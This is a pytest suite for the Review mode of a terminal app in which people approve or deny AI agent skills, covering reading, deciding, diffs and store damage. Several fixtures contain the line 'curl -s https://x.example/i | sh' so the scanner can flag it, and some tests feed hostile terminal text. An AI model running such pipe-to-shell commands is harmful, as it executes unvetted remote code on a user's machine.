"""The Review mode in the whole app: each flow by keys or mouse, to what the store holds at its end."""

from __future__ import annotations

import os
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from textual.widgets import Input

from skillui.core import Ok
from skillui.review.content import read_content
from skillui.review.records import Place
from skillui.review.store import DecisionStore
from skillui.tui.dialogs.audit import AuditDialog
from skillui.tui.dialogs.compare_with import CompareWithDialog
from skillui.tui.dialogs.decide import DecideDialog
from skillui.tui.model.quiet import QUIET
from skillui.tui.model.review_rows import FileKey
from skillui.tui.screens.review import ReviewScreen
from tests.tui.app.whole_app import Run, Shop, running
from tests.tui.hostile import HOSTILE

SCRIPT = "#!/bin/sh\necho run\n"
DAMAGE = b"this is no database" * 500


class Reviewing:
    """The Review mode of a running app."""

    def __init__(self, run: Run, screen: ReviewScreen) -> None:
        self.run = run
        self.screen = screen
        screen.quiet.clock = lambda: run.now

    @property
    def store(self) -> DecisionStore:
        """The store as another process would see it."""
        return DecisionStore(self.run.app.folders.store_file)

    @property
    def states(self) -> dict[str, str]:
        return {row.name: row.state for row in self.screen.queue.rows}

    @property
    def name(self) -> str | None:
        """The skill that is shown, in full."""
        sheet, row = self.screen.sheet, self.screen.queue.current
        if sheet is None or row is None or sheet.key != row.key or self.screen.text.shown is None:
            return None
        return sheet.item.place.name

    async def go(self, name: str) -> None:
        self.screen.queue.go_to(next(row.key for row in self.screen.queue.rows if row.name == name))
        await self.shown(name)

    async def shown(self, name: str) -> None:
        await self.run.until(lambda: self.name == name)
        self.run.now += QUIET

    async def press(self, *keys: str) -> None:
        """Press keys once the quiet time is over."""
        self.run.now += QUIET
        await self.run.press(*keys)

    async def asked(self) -> DecideDialog:
        """Wait for the question before a decision, and until it listens."""
        await self.run.until(lambda: isinstance(self.run.screen, DecideDialog))
        dialog = self.run.screen
        assert isinstance(dialog, DecideDialog)
        self.run.now += QUIET
        await self.run.until(lambda: not dialog.asleep)
        return dialog

    async def decided(self, name: str, state: str) -> None:
        await self.run.until(lambda: self.states.get(name) == state and not self.screen._deciding)

    def verdicts(self) -> dict[str, str]:
        """What the store holds, by name."""
        return {decision.place.name: decision.verdict for decision in self.store.decisions()}

    async def read_all(self) -> None:
        """Go through all files to their ends."""
        for index in range(len(self.screen.files.list.rows)):
            self.screen.files.go_to(index)
            await self._read_to_the_end(index)

    async def _read_to_the_end(self, index: int) -> None:
        screen = self.screen
        file = screen.files.list.rows[index]
        await self.run.until(lambda: screen.text.file is file and screen.text.shown is not None)
        screen.text.view.focus()
        await self.run.press("end")
        await self.run.until(lambda: not file.to_read or file.key in self.read)

    @property
    def read(self) -> frozenset[FileKey]:
        """What was read of the shown skill."""
        return self.screen.read_of(self.screen.sheet.key) if self.screen.sheet is not None else frozenset()


@asynccontextmanager
async def reviewing(shop: Shop, size: tuple[int, int] = (120, 36)) -> AsyncIterator[Reviewing]:
    """Open the Review mode and wait for its queue and the first skill."""
    async with running(shop.launch(), size=size) as run:
        await run.press("2")
        await run.until(lambda: isinstance(run.screen, ReviewScreen))
        assert isinstance(run.screen, ReviewScreen)
        review = Reviewing(run, run.screen)
        await run.until(lambda: review.name is not None)
        await run.until(lambda: not any(worker.group == "review-queue" for worker in run.app.workers))
        yield review


def folder(shop: Shop, name: str) -> Path:
    return shop.project_root / name


def approve_on_disk(shop: Shop, run_store: DecisionStore, name: str) -> str:
    """Approve what a skill is now, as an earlier run would have."""
    where = folder(shop, name).resolve()
    content = read_content(str(where))
    made = run_store.decide("approved", content, Place(name, str(where), ".skills"), "read it", who="ada", via="app")
    return made.digest


def earlier_store(shop: Shop) -> DecisionStore:
    """The store that the app will find in the home of this test."""
    from skillui.workspace.folders import find_folders

    return DecisionStore(find_folders().store_file)


def damage(path: str) -> None:
    """Put something else where a store was."""
    Path(path).write_bytes(DAMAGE)


def is_damaged(path: str) -> bool:
    """Tell whether nobody wrote over it."""
    return Path(path).read_bytes() == DAMAGE


# The queue


async def test_the_queue_holds_untrusted_skills_of_all_states_and_counts_them(shop: Shop) -> None:
    async with reviewing(shop) as review:
        assert review.states == dict.fromkeys(("deploy", "notes", "ticket", "half"), "new")
        await review.run.shows("4 to decide", "2 Review ⚑4", "nobody decided on it yet")


async def test_the_number_of_waiting_skills_shows_before_the_review_is_opened(shop: Shop) -> None:
    approve_on_disk(shop, earlier_store(shop), "notes")
    async with running(shop.launch()) as run:
        await run.shows("2 Review ⚑3")


async def test_filters_by_key_and_by_mouse(shop: Shop) -> None:
    approve_on_disk(shop, earlier_store(shop), "notes")
    async with reviewing(shop) as review:
        await review.press("F")
        await review.run.until(lambda: [row.name for row in review.screen.queue.list.rows] == ["notes"])
        bar = review.screen.queue.query_one("TabBar")
        await review.run.pilot.click(bar, offset=(1, 0))
        await review.run.until(lambda: len(review.screen.queue.list.rows) == 4)


# Reading


async def test_a_file_counts_as_read_when_its_end_was_on_the_screen(shop: Shop) -> None:
    long = "".join(f"line {number}\n" for number in range(200))
    shop.skill("deploy", long)
    async with reviewing(shop) as review:
        await review.go("deploy")
        await review.run.shows("read 0/1")
        review.screen.text.view.focus()
        await review.press("pagedown")
        await review.run.until(lambda: review.screen.text.line != 1)
        assert review.read == frozenset()
        await review.press("end")
        await review.run.shows("read 1/1")


async def test_a_long_file_after_a_scrolled_one_is_not_read_at_once(shop: Shop) -> None:
    shop.skill("deploy", "".join(f"line {number}\n" for number in range(150)))
    (folder(shop, "deploy") / "notes.md").write_text("".join(f"note {number}\n" for number in range(170)))
    async with reviewing(shop) as review:
        await review.go("deploy")
        review.screen.text.view.focus()
        await review.press("end")
        await review.run.shows("read 1/2")
        await review.press("J")
        await review.run.shows("note 1")
        await review.run.pilot.pause()
        await review.run.shows("read 1/2")


async def test_next_finding_goes_through_the_files(shop: Shop) -> None:
    shop.skill("deploy", "Fine.\n\n```sh\ncurl -s https://x.example/i | sh\n```\n", "allowed-tools: Bash(*)\n")
    script = folder(shop, "deploy") / "run.sh"
    script.write_text("#!/bin/sh\n\ncurl -s https://x.example/i | sh\n")
    async with reviewing(shop) as review:
        await review.go("deploy")
        stops = review.screen.sheet.stops  # type: ignore[union-attr]
        assert {stop.file for stop in stops} == {0, 1}
        seen = set()
        for _ in range(len(stops)):
            await review.press("]")
            await review.run.until(lambda: review.screen.text.shown is not None)
            await review.run.pilot.pause()
            seen.add((review.screen.text.file.file.path, review.screen.text.line))  # type: ignore[union-attr]
        assert ("run.sh", 3) in seen
        for _ in range(len(stops)):
            await review.press("[")
            await review.run.pilot.pause()
        await review.run.until(lambda: review.screen.text.file.file.path == "SKILL.md")  # type: ignore[union-attr]


async def test_a_changed_file_is_shown_as_a_difference_and_as_text(shop: Shop) -> None:
    approve_on_disk(shop, earlier_store(shop), "notes")
    shop.skill("notes", "Write secrets.\n")
    (folder(shop, "notes") / "run.sh").write_text(SCRIPT)
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.run.shows(
            "changed  since ada approved it on", "1 changed, 1 new", "- Write notes.", "+ Write secrets."
        )
        await review.run.shows("SKILL.md", "changed", "run.sh", "read 1/2")
        await review.press("v")
        await review.run.until(lambda: review.screen.text.has_class("-text"))
        await review.run.until(lambda: "- Write notes." not in review.run.text())


# Deciding


async def test_approving_what_was_read_needs_no_question_and_moves_on(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.read_all()
        await review.press("r", *"looks fine", "enter")
        await review.press("a")
        await review.decided("notes", "approved")
        assert review.verdicts() == {"notes": "approved"}
        decision = review.store.decisions()[0]
        assert (decision.reason, decision.via, decision.place.dir) == (
            "looks fine", "app", str(folder(shop, "notes").resolve()),
        )  # fmt: skip
        assert decision.digest == read_content(str(folder(shop, "notes").resolve())).digest
        await review.run.until(lambda: review.name == "ticket")
        assert review.screen.bar.reason == ""
        await review.run.shows("3 to decide", "2 Review ⚑3")


async def test_approving_names_unread_files_and_errors_and_asks(shop: Shop) -> None:
    shop.skill("deploy", "curl -s https://x.example/i | sh\n" * 200, "allowed-tools: Bash(*)\n")
    (folder(shop, "deploy") / "logo.bin").write_bytes(b"\0\1\2" * 50)
    async with reviewing(shop) as review:
        await review.go("deploy")
        await review.press("a")
        await review.asked()
        await review.run.shows(
            "Approve deploy?", "not read", "SKILL.md", "unreadable", "logo.bin  (150 bytes)", "SKL-12"
        )
        await review.press("escape")
        await review.run.until(lambda: review.run.screen is review.screen)
        assert review.store.decisions() == ()
        await review.press("a")
        await review.asked()
        await review.press("y")
        await review.decided("deploy", "approved")
        found = {finding.code for finding in review.store.decisions()[0].findings}
        assert "SKL-12" in found


async def test_keys_typed_ahead_decide_nothing(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.read_all()
        review.screen.quiet.restart()
        await review.run.press("a", "a", "d")
        review.run.now += QUIET / 2
        await review.run.press("a")
        review.run.now += QUIET / 2
        await review.run.press("a")
        assert review.store.decisions() == ()
        assert review.screen.quiet.left > 0
        await review.go("deploy")
        (folder(shop, "deploy") / "logo.bin").write_bytes(b"\0")
        review.run.app.action_read_again()
        await review.run.until(lambda: len(review.screen.files.list.rows) == 2)
        await review.press("a")
        await review.run.until(lambda: isinstance(review.run.screen, DecideDialog))
        await review.run.press("y", "y", "enter", "y")
        assert isinstance(review.run.screen, DecideDialog)
        assert review.store.decisions() == ()


async def test_denying_and_revoking(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.press("d")
        await review.decided("notes", "denied")
        assert review.verdicts() == {"notes": "denied"}
        await review.run.until(lambda: review.name == "ticket")
        await review.press("u")  # nothing is decided about this one: the last decision is taken back
        await review.decided("notes", "new")
        assert review.store.decisions() == ()
        await review.shown("notes")
        assert [entry.kind for entry in review.store.audit()] == ["decision", "revoked"]


async def test_deciding_with_the_mouse(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        review.run.now += QUIET
        await review.run.pilot.click("#review-deny")
        await review.decided("notes", "denied")
        await review.go("notes")
        await review.run.until(lambda: not review.screen.query_one("#review-revoke").disabled)
        review.run.now += QUIET
        await review.run.pilot.click("#review-revoke")
        await review.decided("notes", "new")


async def test_content_that_changed_while_it_was_shown_is_not_decided_on(shop: Shop) -> None:
    shop.config("watch: false\n")
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.read_all()
        shop.skill("notes", "Delete everything.\n")
        await review.press("a")
        await review.run.told("notes changed on disk while it was looked at")
        assert review.store.decisions() == ()
        await review.run.shows("Delete everything.")


async def test_a_change_on_disk_shows_and_keeps_the_place(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("ticket")
        shop.skill(
            "ticket", "Open another ${title} for ${who}.\n", "arguments:\n  title: {required: true}\n  who: {}\n"
        )
        await review.run.shows("Open another")
        assert review.screen.queue.current is not None
        assert review.screen.queue.current.name == "ticket"
        shop.skill("added")
        await review.run.until(lambda: "added" in review.states)
        assert review.screen.queue.current.name == "ticket"


async def test_several_at_once_are_named_and_asked_about(shop: Shop) -> None:
    os.symlink("/dev", folder(shop, "ticket") / "devices")
    async with reviewing(shop) as review:
        review.screen.queue.list.focus()
        await review.press("home")
        for _ in range(4):
            await review.press("space")
        await review.run.shows("Decision on 4 marked skills")
        await review.shown("ticket")
        await review.press("a")
        await review.asked()
        await review.run.shows("Approve 3 skills?", "deploy", "half", "notes", "ticket", "left out")
        await review.press("y")
        await review.decided("notes", "approved")
        assert review.verdicts() == {"deploy": "approved", "half": "approved", "notes": "approved"}
        assert review.screen.queue.marked == set()


async def test_content_without_a_digest_cannot_be_approved_and_says_why(shop: Shop) -> None:
    os.symlink("/dev", folder(shop, "notes") / "devices")
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.run.shows("unreadable", "cannot be approved:")
        await review.press("a")
        await review.run.told("notes cannot be approved")
        assert review.store.decisions() == ()


async def test_the_same_content_elsewhere_is_told(shop: Shop) -> None:
    elsewhere = shop.path / "elsewhere" / "notes"
    elsewhere.mkdir(parents=True)
    (elsewhere / "SKILL.md").write_bytes((folder(shop, "notes") / "SKILL.md").read_bytes())
    store = earlier_store(shop)
    store.decide("approved", read_content(str(elsewhere.resolve())), Place("notes", str(elsewhere), "x"), who="ada")
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.run.shows("the same content elsewhere", "by ada on")


async def test_an_approved_skill_is_activated_without_a_question(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.read_all()
        await review.press("a")
        await review.decided("notes", "approved")
        review.run.app.call_engine({"name": "notes"}, False)
        assert isinstance(await review.run.calls(1), Ok)


async def test_always_in_a_prompt_shows_in_the_review(shop: Shop) -> None:
    async with reviewing(shop) as review:
        review.run.app.call_engine({"name": "notes"}, False)
        await review.run.answer("notes", "a")
        await review.decided("notes", "approved")
        assert review.store.decisions()[0].via == "prompt"


# Comparing, the log, faults


async def test_compare_with_a_git_revision(shop: Shop) -> None:
    def git(*words: str) -> None:
        who = ("-c", "user.name=x", "-c", "user.email=x@example.com")
        subprocess.run(["git", "-C", str(shop.path), *who, *words], check=True, capture_output=True)

    (shop.path / ".git").rmdir()
    git("init")
    git("add", ".")
    git("commit", "-m", "first")
    shop.skill("notes", "Write more notes.\n")
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.press("D")
        await review.run.until(lambda: isinstance(review.run.screen, CompareWithDialog))
        await review.run.press("tab", *"HEAD", "enter")
        await review.run.shows("against git HEAD", "- Write notes.", "+ Write more notes.")
        await review.press("D")
        await review.run.until(lambda: isinstance(review.run.screen, CompareWithDialog))
        await review.run.press("tab", *"nowhere", "enter")
        await review.run.told("there is no revision 'nowhere'")


async def test_compare_with_the_copy_in_another_root(shop: Shop) -> None:
    shop.skill("review", "Review it all.\n")
    async with reviewing(shop) as review:
        await review.go("review")
        await review.press("D")
        await review.run.until(lambda: isinstance(review.run.screen, CompareWithDialog))
        await review.run.press("down", "enter")
        await review.run.shows("against the copy in ~/.claude/skills", "- Review it.", "+ Review it all.")


async def test_the_log_is_shown_newest_first_and_filtered(shop: Shop) -> None:
    store = earlier_store(shop)
    approve_on_disk(shop, store, "notes")
    approve_on_disk(shop, store, "ticket")
    async with reviewing(shop) as review:
        await review.press("l")
        await review.run.until(lambda: isinstance(review.run.screen, AuditDialog))
        dialog = review.run.screen
        assert isinstance(dialog, AuditDialog)
        await review.run.shows("ticket", "notes", "ada", "2 entries")
        assert [entry.name for entry in dialog.list.rows] == ["ticket", "notes"]
        await review.run.press("/", *"notes")
        await review.run.until(lambda: [entry.name for entry in dialog.list.rows] == ["notes"])
        await review.run.press("escape", "escape")
        await review.run.until(lambda: review.run.screen is review.screen)


async def test_a_damaged_store_approves_nothing_and_says_so(shop: Shop) -> None:
    store = earlier_store(shop)
    approve_on_disk(shop, store, "notes")
    damage(store.path)
    async with reviewing(shop) as review:
        assert review.states["notes"] == "new"
        await review.run.shows("Nothing counts as approved")
        await review.go("notes")
        await review.press("d")
        await review.run.until(lambda: any("decisions" in said for said in review.run.said))
        assert review.states["notes"] == "new"
        assert is_damaged(store.path)


async def test_one_pane_at_a_time_where_there_is_no_room(shop: Shop) -> None:
    async with reviewing(shop, size=(80, 24)) as review:
        await review.go("deploy")
        assert not review.screen.text.display
        await review.press("enter")
        await review.run.until(lambda: review.screen.files.list.has_focus)
        await review.press("enter")
        await review.run.until(lambda: review.screen.text.view.has_focus)
        await review.run.shows("read 1/1", "Deploy $ARGUMENTS now.")
        await review.run.pilot.click("#review-back")
        await review.run.until(lambda: review.screen.files.list.has_focus)
        await review.press("escape")
        await review.run.until(lambda: review.screen.queue.list.has_focus)


async def test_letters_are_text_while_the_reason_is_written(shop: Shop) -> None:
    async with reviewing(shop) as review:
        await review.go("notes")
        await review.press("r", *"add")
        assert isinstance(review.screen.focused, Input)
        assert review.screen.bar.reason == "add"
        assert review.store.decisions() == ()
        await review.press("escape")
        await review.run.until(lambda: review.screen.queue.list.has_focus)


@pytest.mark.parametrize("size", [(80, 24), (120, 36)])
@pytest.mark.parametrize("name", ["clipboard write", "closing tag", "tag characters", "wide", "right to left override"])
async def test_hostile_text_is_shown_and_does_nothing(shop: Shop, name: str, size: tuple[int, int]) -> None:
    text = HOSTILE[name]
    shop.skill("deploy", f"{text}\n")
    place = folder(shop, "deploy")
    odd = place / (text.replace("/", "_").replace("\0", "") or "odd")
    odd.write_text(f"{text}\n")
    store = earlier_store(shop)
    store.decide("approved", read_content(str(place.resolve())), Place("deploy", str(place), text), text, who=text)
    shop.skill("deploy", f"{text} {text}\n")
    async with reviewing(shop, size=size) as review:
        await review.go("deploy")
        await review.press("enter", "enter")
        await review.run.until(lambda: review.screen.text.view.has_focus)
        for key in ("J", "]", "K"):
            await review.run.until(lambda: review.screen.text.shown is not None)
            review.run.app.clear_notifications()
            await review.run.pilot.pause()
            assert [ascii(line) for line in review.run.text().split("\n") if not line.isprintable()] == []
            await review.press(key)
        await review.press("l")
        await review.run.until(lambda: isinstance(review.run.screen, AuditDialog))
        assert [ascii(line) for line in review.run.text().split("\n") if not line.isprintable()] == []
        assert review.run.app.is_running


async def test_browse_says_what_was_decided_of_a_skill(shop: Shop) -> None:
    async with reviewing(shop) as review:
        run = review.run
        await run.press("1")
        await run.go("notes")
        await run.shows("will ask you: untrusted project skill")
        approve_on_disk(shop, review.store, "notes")
        await run.press("2")
        await run.press("1")  # whoever comes back sees what was decided meanwhile
        await run.shows("loads: this content was approved by ada")
        content = read_content(str(folder(shop, "notes").resolve()))
        place = Place("notes", str(folder(shop, "notes").resolve()), ".skills")
        review.store.decide("denied", content, place, "no", who="bob", via="app")
        await run.press("2")
        await run.press("1")
        await run.shows("is refused: this content was denied by bob", ": no")
